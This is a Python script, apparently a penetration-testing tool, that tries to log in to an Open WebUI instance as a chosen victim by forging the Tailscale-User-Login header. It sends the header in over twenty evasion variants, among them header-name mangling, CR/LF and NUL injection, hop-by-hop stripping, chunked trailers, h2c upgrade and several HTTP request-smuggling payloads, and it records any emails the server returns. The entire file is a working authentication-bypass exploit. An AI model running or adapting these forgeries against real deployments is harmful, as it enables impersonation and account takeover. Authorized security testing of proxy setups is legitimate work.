"""Signs in at Open WebUI with headers that name somebody else, in all the ways that are known to get such a header past a proxy.

    forgeries.py HOST PORT VICTIM [PROXY]    PROXY: port of a SOCKS proxy on the loopback; the way is HTTPS then

Prints as JSON, by the name of the forgery: {"statuses": of all answers, "emails": all that stand in the answers}.
"""

import json
import re
import socket
import ssl
import sys
from concurrent.futures import ThreadPoolExecutor

host, port, victim, *proxy = sys.argv[1:]
body = json.dumps({"email": victim, "password": "x"})
forged = f"Tailscale-User-Login: {victim}\r\n"


def request(headers="", end="Connection: close\r\n", content=body, version="1.1", target="/api/v1/auths/signin"):
    length = "" if "chunked" in headers else f"Content-Length: {len(content)}\r\n"
    return f"POST {target} HTTP/{version}\r\nHost: {host}\r\nContent-Type: application/json\r\n{length}{headers}{end}\r\n{content}"


chunked = f"{len(body):x}\r\n{body}\r\n0\r\n"
forgeries = {
    "as it is": request(forged),
    "in lower case": request(forged.lower()),
    "in upper case": request(forged.upper()),
    "twice": request(forged + forged),
    "twice, once empty": request("Tailscale-User-Login:\r\n" + forged),
    "with underscores": request(forged.replace("-", "_", 2)),
    "with a blank before the colon": request(forged.replace(":", " :")),
    "with a tab before the colon": request(forged.replace(":", "\t:")),
    "folded into the line before": request(f"X-A: b\r\n {forged}"),
    "behind a bare line feed": request(f"X-A: b\n{forged}"),
    "behind a bare carriage return": request(f"X-A: b\r{forged}"),
    "behind a NUL": request(f"X-A: b\0{forged}"),
    "hop by hop": request(forged, "Connection: close, Tailscale-User-Login\r\n"),
    "hop by hop, the real one alone": request("", "Connection: close, Tailscale-User-Login, X-Forwarded-For\r\n"),
    "as a trailer": request("Transfer-Encoding: chunked\r\nTrailer: Tailscale-User-Login\r\nTE: trailers\r\n", content=f"{chunked}{forged}\r\n"),
    "as an undeclared trailer": request("Transfer-Encoding: chunked\r\n", content=f"{chunked}{forged}\r\n"),
    "in HTTP/1.0": request(forged, version="1.0"),
    "to an absolute address": request(forged, target=f"http://{host}/api/v1/auths/signin"),
    "in the target": request(target=f"/api/v1/auths/signin?x=%0d%0a{forged.strip()}"),
    "with an upgrade to h2c": request(forged, "Connection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"),
    "by a proxy's other names": request("".join(f"{name}: {victim}\r\n" for name in ("X-Forwarded-User", "X-Forwarded-Email", "Remote-User", "X-Webauth-Login"))),
    "in a second request of the connection": request("", "") + request(forged),
    "in a request within the body, by length and chunks": request("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", content="0\r\n\r\n" + request(forged)),
    "in a request within the body, by a strange chunked": request("Transfer-Encoding: xchunked\r\n", content="0\r\n\r\n" + request(forged)),
    "in a request within the body, by two lengths": request(f"Content-Length: 4\r\n", content="{}\r\n" + request(forged)),
    "in a request within the body, by an upgrade": request("", "Connection: Upgrade\r\nUpgrade: websocket\r\n", content="", target="/ws/socket.io/?EIO=4&transport=websocket") + request(forged),
}


def connect():
    connection = socket.create_connection(("127.0.0.1", int(proxy[0])) if proxy else (host, int(port)), timeout=10)
    if not proxy:
        return connection
    name = host.encode()
    connection.sendall(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name + int(port).to_bytes(2, "big"))
    said = b""
    while len(said) < 12:
        said += connection.recv(12 - len(said))
    return ssl.create_default_context(cafile="/ca/bundle.pem").wrap_socket(connection, server_hostname=host)


def attempt(text):
    said = b""
    with connect() as connection:
        try:
            connection.sendall(text.encode())
            while piece := connection.recv(65536):
                said += piece
        except OSError:
            pass  # hung up on, or left waiting for the rest of what it takes for one request
    statuses = [int(status) for status in re.findall(rb"HTTP/1\.[01] (\d{3})", said)]
    emails = re.findall(r'"email": ?"([^"]*)"', said.decode(errors="replace"))
    return {"statuses": statuses, "emails": emails}


with ThreadPoolExecutor(6) as pool:
    print(json.dumps(dict(zip(forgeries, pool.map(attempt, forgeries.values())))))
